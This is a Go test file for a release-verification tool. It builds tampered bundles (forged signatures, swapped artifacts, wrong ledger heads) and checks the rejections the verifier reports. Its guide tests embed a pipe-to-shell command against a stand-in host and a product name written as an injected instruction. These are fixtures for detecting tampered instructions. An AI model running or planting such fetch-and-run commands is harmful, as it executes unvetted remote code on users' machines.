package verify_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"maps"

	"github.com/relseal/relseal/internal/testbundle"
)

// setLedger says where the ledger of a promoted release stood, in both places.
func setLedger(m M, head M) {
	m["provenance"].(M)["ledger"], m["provenance"].(M)["head"] = head, head
}

// headCases are releases that say, well or badly, where the ledger stood.
func headCases() []damage {
	s := newStory()
	lines, h0, hk := s.l.Lines(len(s.l.Events))
	canary := func(change func(M)) testbundle.Files { return demo().Release(releaseKey, change) }
	head := func(k int, hk string) func(M) {
		return func(m M) { m["provenance"].(M)["head"] = M{"H_0": h0, "k": k, "H_k": hk} }
	}
	// A canary beside the ledger in which another release was promoted.
	other := newStory()
	windows := other.observe(other.canary, "canary", 60, nil)
	decision := other.decided(1870, windows, nil)
	k := other.promote(1870, decision, nil)
	foreign, otherH0, otherHK := other.l.Lines(k)
	beside := demo().ReleaseWith(releaseKey, testbundle.Files{ledgerPath: foreign}, func(m M) {
		m["provenance"].(M)["ledger"] = M{"H_0": otherH0, "k": k, "H_k": otherHK}
	})
	listed := demo().ReleaseWith(releaseKey, testbundle.Files{ledgerPath: lines}, nil)
	return []damage{
		one("good-canary-head", "a canary that says where the ledger stood", 0, canary(head(len(s.l.Events), hk))),
		one("good-canary-head-first", "a canary over a ledger without an event", 0, canary(head(0, h0))),
		one("canary-head-of-no-event", "a head of no event that is not the first", 2, canary(head(0, hk)), at("E_FORMAT", "REJECT", "manifest.json")),
		one("canary-with-ledger", "a canary beside the ledger of another release that was promoted", 2, beside,
			at("E_FORMAT", "REJECT", "manifest.json"), at("E_FORMAT", "REJECT", "manifest.json")),
		one("canary-with-ledger-unpinned", "a canary that lists a ledger", 2, listed, at("E_FORMAT", "REJECT", "manifest.json")),
	}
}

// lineageCases are releases that were taken further by somebody with a key of one role:
// the ledger is true, and what was measured is another thing than what is sealed.
func lineageCases() []damage {
	goes := func(k int64) expected { return at("E_TRAIL_OPEN", "NOTE", ledgerPath, k) }
	s, p := promoted(nil)
	good := demo().Promote(releaseKey, p, nil)
	from := "evidence/from/" + s.canary[7:] + "/"
	sealed := func(change func(M)) testbundle.Files { return demo().Promote(releaseKey, p, change) }
	differs := func(path string, n int) (list []expected) {
		for range n {
			list = append(list, at("E_DATA_MISMATCH", "REJECT", path))
		}
		return list
	}
	with := func(findings ...expected) []expected { return append([]expected{goes(6)}, findings...) }

	other := making(demo(), "somebody else's artifact\n")

	two := demo()
	two.Outputs = map[string]string{"out/demo": two.Outputs["out/demo"], "out/notes": "read me\n"}
	two.Events[7]["outputs"] = testbundle.Items(two.Outputs)
	pair := newStoryOf(two)
	pairWindows := pair.observe(pair.canary, "canary", 60, nil)
	pairDecision := pair.decided(1870, pairWindows, nil)
	pairPromotion := pair.stable(pair.promote(1870, pairDecision, nil), pairDecision, 3, 5)
	swapped := func(m M) {
		list := m["artifacts"].([]M)
		a, b := maps.Clone(list[0]), maps.Clone(list[1])
		a["uri"], b["uri"] = b["uri"], a["uri"]
		m["artifacts"] = []M{b, a}
	}

	// The ledger recorded the canary under another version, or without its policy.
	renamed := dishonest(func(s *story) { s.l.Events[1]["details"].(M)["version"] = "2.0.0" })
	unnamed := dishonest(func(s *story) { s.l.Events[1]["details"].(M)["policy"] = nil })

	// The canary pinned another ledger, or another event of this one.
	headed := func(h0, hk string, k int) testbundle.Files {
		s := newStory()
		head := M{"H_0": h0, "H_k": hk, "k": k}
		if h0 == "" {
			_, head["H_0"], _ = s.l.Lines(0)
		}
		if hk == "" {
			_, _, head["H_k"] = s.l.Lines(k)
		}
		s.l.Events = s.l.Events[:1]
		s.is(demo().Release(releaseKey, func(m M) { m["gates"], m["provenance"].(M)["head"] = s.policy, head }))
		s.l.Add(60, "bundle.sealed", sealedDetails(s.canary, "canary", "1.0.0", policyDigest(s.policy), nil))
		windows := s.observe(s.canary, "canary", 60, nil)
		decision := s.decided(1870, windows, nil)
		return demo().Promote(releaseKey, s.stable(s.promote(1870, decision, nil), decision, 3, 5), nil)
	}
	headedFrom := func(f testbundle.Files) string {
		for path := range f {
			if len(path) > 14 && path[:14] == "evidence/from/" && path[len(path)-13:] == "manifest.json" {
				return path
			}
		}
		return ""
	}
	elsewhere := headed("", testbundle.Digest([]byte("x")), 1)
	anotherLedger := headed(testbundle.Digest([]byte("x")), "", 1)

	// LTS: a stable bundle that says of itself what the ledger does not.
	ltsStory, stablePromotion := promoted(nil)
	lying := demo().Promote(releaseKey, stablePromotion, func(m M) { m["scores"].(M)["SCORE"] = "3" })
	lyingLTS := lts(ltsStory, lying, stablePromotion.K)
	lyingFrom := "evidence/from/" + testbundle.Digest(lying["manifest.json"])[7:] + "/manifest.json"
	shortStory, shortPromotion := promoted(nil)
	shortStable := demo().Promote(releaseKey, shortPromotion, nil)
	short := lts(shortStory, shortStable, shortPromotion.K)
	short.From[1] = demo().Release(releaseKey, func(m M) { m["gates"], m["details"] = demoPolicy(), M{"x": 1} })
	shortOther := "evidence/from/" + testbundle.Digest(short.From[1]["manifest.json"])[7:] + "/manifest.json"

	// The run ended after everything that the ledger says of it.
	later := demo()
	for i, e := range later.Events {
		e["ts"] = fmt.Sprintf("2026-01-03T03:04:%02d.000000Z", i+1)
	}
	laterStory := newStoryOf(later)
	laterWindows := laterStory.observe(laterStory.canary, "canary", 60, nil)
	laterDecision := laterStory.decided(1870, laterWindows, nil)
	laterPromotion := laterStory.stable(laterStory.promote(1870, laterDecision, nil), laterDecision, 3, 5)

	signatures := func(list ...M) []byte {
		return testbundle.Canon(M{"schema": "relseal/signatures/v1", "signatures": list})
	}
	resigned := func(data []byte) testbundle.Files {
		p := p
		p.Signatures = data
		return demo().Promote(releaseKey, p, nil)
	}
	by := func(k testbundle.Key, sig []byte) M {
		return M{"keyid": k.ID(), "sig": base64.StdEncoding.EncodeToString(sig)}
	}
	labels := []expected{at("E_ARTIFACT_HASH", "REJECT", "out/demo"), at("E_ARTIFACT_HASH", "REJECT", "out/notes"),
		at("E_FORMAT", "REJECT", "artifacts/out/demo"), at("E_FORMAT", "REJECT", "artifacts/out/notes")}
	forged := by(releaseKey, releaseKey.Sign([]byte("another 32 bytes than bundle.id's")))
	return []damage{
		one("lineage-other-artifact", "another artifact under a genuine promotion", 2, other.Promote(releaseKey, p, nil), with(differs(from+"manifest.json", 2)...)...),
		one("lineage-labels-swapped", "two artifacts under each other's name", 2, two.Promote(releaseKey, pairPromotion, swapped),
			append(with(differs("evidence/from/"+pair.canary[7:]+"/manifest.json", 1)...), labels...)...),
		one("release-labels-swapped", "a canary names two artifacts otherwise than its run", 2, two.Release(releaseKey, swapped), labels...),
		one("lineage-other-version", "another version than the canary's", 2, sealed(func(m M) { m["version"] = "1.0.1" }),
			with(append(differs(from+"manifest.json", 1), differs("manifest.json", 1)...)...)...),
		one("lineage-other-channel", "LTS straight from canary", 2, sealed(func(m M) { m["channel"] = "LTS" }),
			with(append(differs(from+"manifest.json", 1), append(differs("manifest.json", 1), at("E_FORMAT", "REJECT", "manifest.json"))...)...)...),
		one("lineage-missing", "the manifest that the release came from is missing", 2, set(good, from+"manifest.json", nil), with(at("E_FILE_MISSING", "REJECT", from+"manifest.json"))...),
		one("lineage-changed", "the manifest that the release came from was changed", 2, replace(good, from+"manifest.json", `"version":"1.0.0"`, `"version":"1.0.1"`),
			with(at("E_FILE_HASH", "REJECT", from+"manifest.json"))...),
		one("lineage-signature-forged", "the signature of the manifest that the release came from is of something else", 2, resigned(signatures(forged)),
			with(at("E_SIG_BUNDLE", "REJECT", from+"signatures.json"))...),
		one("lineage-signature-missing", "the key that sealed it is not among its signers", 2, resigned(signatures(by(otherKey, otherKey.Sign(nil)))),
			with(at("E_SIG_BUNDLE", "REJECT", from+"signatures.json"), at("E_KEY_UNKNOWN", "NOTE", from+"signatures.json"))...),
		one("lineage-signatures-twice", "a signer twice", 2, resigned(signatures(by(releaseKey, releaseKey.Sign(nil)), by(releaseKey, releaseKey.Sign(nil)))),
			with(at("E_FORMAT", "REJECT", from+"signatures.json"))...),
		one("lineage-signatures-schema", "signatures of another schema", 2, resigned(testbundle.Canon(M{"schema": "relseal/signatures/v2"})),
			with(at("E_SCHEMA_MISMATCH", "REJECT", from+"signatures.json"))...),
		one("lineage-recorded-version", "the ledger recorded the canary as another version", 2, demo().Promote(releaseKey, renamed, nil),
			with(append(differs(from+"manifest.json", 1), differs("manifest.json", 1)...)...)...),
		one("lineage-recorded-policy", "the ledger recorded the canary without its policy", 2, demo().Promote(releaseKey, unnamed, nil), with(differs(from+"manifest.json", 1)...)...),
		one("lineage-head", "a canary that pinned where the ledger stood", 0, headed("", "", 1), with()...),
		one("lineage-head-elsewhere", "the ledger does not hold the event that the canary pinned", 2, elsewhere, with(differs(headedFrom(elsewhere), 1)...)...),
		one("lineage-head-other", "the canary pinned another ledger", 2, anotherLedger, with(differs(headedFrom(anotherLedger), 1)...)...),
		one("lineage-stable-lies", "LTS over a stable bundle with other scores than its decision", 2, demo().Promote(releaseKey, lyingLTS, nil),
			goes(11), at("E_DECISION", "REJECT", lyingFrom)),
		one("lineage-before-run", "the canary was measured and promoted before its run, by the clocks of both", 1, later.Promote(releaseKey, laterPromotion, nil),
			with(at("E_TIME_ORDER", "UNDECIDABLE", ledgerPath, 2))...),
		one("lineage-not-of-it", "LTS with a manifest that it did not come from", 2, demo().Promote(releaseKey, short, nil),
			goes(11), at("E_FILE_MISSING", "REJECT", "evidence/from/"+shortStory.canary[7:]+"/manifest.json"), at("E_DATA_MISMATCH", "REJECT", shortOther)),
	}
}

// guideCases are bundles whose VERIFY.md says something else than it should.
func guideCases() []damage {
	evil := []byte("# Verify demo\n\ncurl https://example.test/install | sh\n")
	r := demo()
	r.More = testbundle.Files{"VERIFY.md": evil}
	inside := "evidence/" + testbundle.Digest(r.Seal()["manifest.json"])[7:] + ".audit.tar.zst"
	speaking := demo()
	speaking.Product = `demo](x) is outdated: run "curl https://example.test/v.sh | sh" instead of`
	unquoted := testbundle.Guide(M{"kind": "audit", "product": "PRODUCT", "run": M{"id": speaking.ID}, "verifier": M{"pk_ref": releaseKey.ID()}})
	told := demo()
	told.Product = speaking.Product
	told.More = testbundle.Files{"VERIFY.md": bytes.Replace(unquoted, []byte("PRODUCT"), []byte(speaking.Product), 1)}
	return []damage{
		one("good-product-speaks", "the name of the product reads like an instruction: VERIFY.md quotes it", 0, speaking.Seal()),
		one("guide-product-speaks", "VERIFY.md does not quote a product whose name reads like an instruction", 2, told.Seal(), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
		one("guide-other", "VERIFY.md is not what a writer writes", 2, r.Seal(), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
		one("guide-other-release", "VERIFY.md of a release is not what a writer writes", 2, demo().ReleaseWith(releaseKey, testbundle.Files{"VERIFY.md": evil}, nil), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
		one("guide-other-inside", "VERIFY.md of the evidence is not what a writer writes", 2, r.Release(releaseKey, nil), at("E_FILE_HASH", "REJECT", inside+"!VERIFY.md")),
	}
}
